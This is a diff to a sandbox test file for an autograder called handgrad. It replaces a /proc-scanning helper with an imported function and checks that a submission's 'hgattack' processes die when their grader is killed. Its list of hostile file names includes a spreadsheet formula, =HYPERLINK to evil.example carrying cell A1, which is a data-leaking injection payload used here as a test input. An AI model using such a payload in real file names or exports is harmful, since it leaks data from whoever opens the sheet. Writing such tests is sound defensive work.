@@ -20,7 +20,7 @@ from handgrad.grading import pool, reports, sandbox
 from handgrad.grading.grader import FunctionGrade, SubmissionGrade
 from handgrad.grading.submission import SubmissionError, check_submission, copy_submission
 from tests.corpus.mistakes import correct_source
-from tests.test_sandbox import ROOT, needs_sandbox
+from tests.test_sandbox import ROOT, attack_processes, needs_sandbox
 
 HOSTILE_NAMES = (
     '=HYPERLINK("evil.example?"&A1,"fine").py',
@@ -159,22 +159,6 @@ time.sleep(120)
 """
 
 
-def _in_cgroup_of(grader: int) -> list[int]:
-    """Live processes named hgattack in a cgroup of grader `grader`, or outside every
-    handgrad cgroup (started by this test's grader where there are no cgroups)."""
-    found = []
-    for pid in filter(str.isdigit, os.listdir("/proc")):
-        try:
-            if Path(f"/proc/{pid}/comm").read_text().strip() != "hgattack":
-                continue
-            cgroup = Path(f"/proc/{pid}/cgroup").read_text()
-        except OSError:
-            continue
-        if f"handgrad-{grader}-" in cgroup or "handgrad-" not in cgroup:
-            found.append(int(pid))
-    return found
-
-
 @needs_sandbox
 def test_workers_die_with_a_grader_killed_outright(tmp_path: Path) -> None:
     """SIGKILL gives the grader no chance to clean up: its workers (a uid change clears
@@ -186,17 +170,17 @@ def test_workers_die_with_a_grader_killed_outright(tmp_path: Path) -> None:
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
     try:
         deadline = time.monotonic() + 120
-        while not _in_cgroup_of(grader.pid) and time.monotonic() < deadline and grader.poll() is None:
+        while not attack_processes(grader.pid) and time.monotonic() < deadline and grader.poll() is None:
             time.sleep(0.1)
-        assert _in_cgroup_of(grader.pid), "the submission's process never started"
+        assert attack_processes(grader.pid), "the submission's process never started"
     finally:
         grader.send_signal(signal.SIGKILL)
         grader.wait()
     for _ in range(100):
-        if not _in_cgroup_of(grader.pid):
+        if not attack_processes(grader.pid):
             break
         time.sleep(0.05)
-    assert _in_cgroup_of(grader.pid) == [], "a worker outlived the grader that started it"
+    assert attack_processes(grader.pid) == [], "a worker outlived the grader that started it"
     sandbox._sweep_stale.cache_clear()  # as a new grader starts
     group = sandbox.make_cgroup(f"handgrad-{os.getpid()}-sweep-test", 1 << 30, 64)
     if group is not None:
